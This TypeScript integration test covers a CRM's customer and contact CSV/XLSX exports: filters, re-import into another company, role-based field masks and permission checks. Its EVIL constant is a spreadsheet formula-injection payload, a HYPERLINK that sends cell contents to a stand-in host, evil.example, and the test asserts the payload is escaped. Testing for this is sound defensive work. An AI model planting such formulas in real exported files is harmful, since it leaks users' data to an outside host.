import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { type Client, describeDb, newCompany, signedIn, TEST_PASSWORD } from '../../../../test/kit/index.ts';

const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';

function table(res: { status: number; raw: { body: string } }): Record<string, string>[] {
  assert.equal(res.status, 200, res.raw.body);
  assert.ok(res.raw.body.startsWith('\uFEFF'));
  return parse(res.raw.body.slice(1), { columns: true }) as Record<string, string>[];
}

async function customer(client: Client, body: Record<string, unknown>) {
  const res = await client.post('/api/v1/customers', { ignoreDuplicates: true, ...body });
  assert.equal(res.status, 201, JSON.stringify(res.body));
  return res.body;
}

describeDb('exporting customers and contacts', (ctx) => {
  test('CSV with the list’s filters; formulas neutralised; columns re-import into another company', async () => {
    const company = await newCompany(ctx.db);
    const admin = await signedIn(ctx.db, company.admin);
    const star = await customer(admin, {
      name: '上海星辰贸易有限公司',
      tags: ['VIP'],
      status: 'active',
      creditLimit: '500000.00',
      addresses: [{ kind: 'billing', regionCode: 'CN-SH', city: '上海', line1: '世纪大道 100 号' }],
    });
    await admin.post('/api/v1/contacts', { customerId: star.id, name: '王小明', phones: ['13800138000'] });
    await customer(admin, { name: EVIL, tags: ['VIP'] });
    await customer(admin, { name: '@SUM(1+1)', status: 'lost' });

    const all = table(await admin.get('/api/v1/customers/export.csv'));
    assert.equal(all.length, 3);
    for (const row of all) for (const cell of Object.values(row)) assert.doesNotMatch(cell, /^[=+\-@]/);
    assert.ok(all.some((r) => r.Name === `'${EVIL}`));
    const vip = table(await admin.get('/api/v1/customers/export.csv?tag=VIP&status=active'));
    assert.deepEqual(
      vip.map((r) => r.Name),
      ['上海星辰贸易有限公司'],
    );
    assert.deepEqual(
      { ...vip[0], Code: undefined },
      {
        Code: undefined,
        Name: '上海星辰贸易有限公司',
        'Short name': '',
        Kind: 'company',
        'Tax id': '',
        Industry: '',
        Source: '',
        Tags: 'VIP',
        Owner: 'admin user',
        'Owner email': company.admin.email,
        Status: 'active',
        'Credit limit': '500000.00',
        'Payment term': '',
        Address: '世纪大道 100 号',
        City: '上海',
        Region: 'CN-SH',
        'Contact name': '王小明',
        'Contact phone': '13800138000',
        'Contact email': '',
      },
    );
    const byQ = table(await admin.get(`/api/v1/customers/export.csv?q=${encodeURIComponent('星辰')}`));
    assert.equal(byQ.length, 1);

    // The file goes into another company as it is (its headers are the import's).
    const other = await newCompany(ctx.db);
    const otherAdmin = await signedIn(ctx.db, other.admin);
    const csvText = (await admin.get('/api/v1/customers/export.csv?status=active')).raw.body;
    const imported = await otherAdmin.request(
      'POST',
      '/api/v1/imports?entity=crm.customer&fileName=x.csv',
      undefined,
      {
        raw: Buffer.from(csvText.replace(company.admin.email, other.admin.email)),
        contentType: 'text/csv',
      },
    );
    assert.equal(imported.status, 201, JSON.stringify(imported.body));
    assert.equal(
      imported.body.okRows,
      1,
      JSON.stringify((await otherAdmin.get(`/api/v1/imports/${imported.body.id}/errors`)).body),
    );
    const copy = (await otherAdmin.get('/api/v1/customers')).body.items[0];
    assert.deepEqual(
      [copy.name, copy.creditLimit, copy.tags],
      ['上海星辰贸易有限公司', '500000.00', ['VIP']],
    );
  });

  test('XLSX: record rule and field masks hold, no formula cells; contacts export too', async () => {
    const company = await newCompany(ctx.db);
    const admin = await signedIn(ctx.db, company.admin);
    const seller = await signedIn(ctx.db, await company.user('sales'));
    await customer(seller, { name: '销售的客户', creditLimit: '1000.00' });
    await customer(admin, { name: '管理员的客户' });
    const role = await admin.post('/api/v1/roles', {
      code: 'masked_sales',
      name: { en: 'Masked sales' },
      permissions: ['crm.customer.read', 'crm.customer.export', 'crm.contact.read'],
      recordScope: 'company',
      fieldMasks: { 'crm.customer': ['creditLimit', 'taxId'], 'crm.contact': ['phones'] },
    });
    assert.equal(role.status, 201, JSON.stringify(role.body));
    const email = `masked.${company.code}@example.com`.toLowerCase();
    const user = await admin.post('/api/v1/users', {
      email,
      name: 'Masked',
      locale: 'zh-CN',
      password: TEST_PASSWORD,
      roleIds: [role.body.id],
    });
    assert.equal(user.status, 201, JSON.stringify(user.body));
    const masked = await signedIn(ctx.db, { email, password: TEST_PASSWORD });

    const own = await seller.get('/api/v1/customers/export.xlsx');
    assert.equal(own.status, 200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(own.raw.rawPayload as any);
    const sheet = book.worksheets[0];
    assert.equal(sheet.rowCount, 2, 'the salesperson’s own customer only');
    assert.equal(sheet.getRow(2).getCell(2).value, '销售的客户');

    const maskedCsv = table(await masked.get('/api/v1/customers/export.csv'));
    assert.equal(maskedCsv.length, 2);
    assert.ok(!('信用额度' in maskedCsv[0]) && !('税号' in maskedCsv[0]), 'masked fields are no columns');
    assert.ok('客户名称' in maskedCsv[0]);
    assert.ok(!('负责人邮箱' in maskedCsv[0]), 'users’ emails need the user read permission');
    assert.ok('联系人' in maskedCsv[0] && !('联系电话' in maskedCsv[0]));

    const theirs = (await admin.get('/api/v1/customers?q=' + encodeURIComponent('管理员'))).body.items[0];
    await admin.post('/api/v1/contacts', {
      customerId: theirs.id,
      name: '=1+2',
      phones: ['13800000000'],
      email: 'a@b.cn',
    });
    const contacts = table(await masked.get('/api/v1/contacts/export.csv'));
    assert.deepEqual(contacts[0], {
      客户编号或名称: theirs.code,
      客户名称: '管理员的客户',
      姓名: "'=1+2",
      邮箱: 'a@b.cn',
      微信: '',
      职务: '',
      生日: '',
      首选联系方式: '',
    });
    assert.equal((await seller.get('/api/v1/contacts/export.csv')).raw.body.includes('=1+2'), false);
    const service = await signedIn(ctx.db, await company.user('service'));
    assert.equal((await service.get('/api/v1/customers/export.csv')).status, 403);
  });
});
